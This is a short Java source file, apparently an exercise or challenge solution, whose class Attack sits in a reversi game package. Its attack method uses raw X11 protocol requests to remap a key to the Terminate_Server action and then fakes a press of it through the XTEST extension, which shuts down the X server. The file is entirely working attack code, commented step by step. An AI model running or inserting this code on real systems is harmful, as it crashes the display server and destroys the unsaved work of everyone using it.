package reversi;

class Attack {
    private static final int KEY = 200;
    /** The keysym for which a server's map of keys has the action Terminate. */
    private static final int TERMINATE_SERVER = 0xFED5;

    static String attack(IView view) throws Exception {
        Display display = new Display();
        int test = display.extension("XTEST");
        // ChangeKeyboardMapping gives the key its meaning, FakeInput presses it.
        display.ask(100 << 24 | 1 << 16 | 3, KEY << 24 | 1 << 16, TERMINATE_SERVER);
        display.ask(test << 24 | 2 << 16 | 9, 2 << 24 | KEY << 16, 0, 0, 0, 0, 0, 0, 0);
        display.finish();
        return null;
    }
}
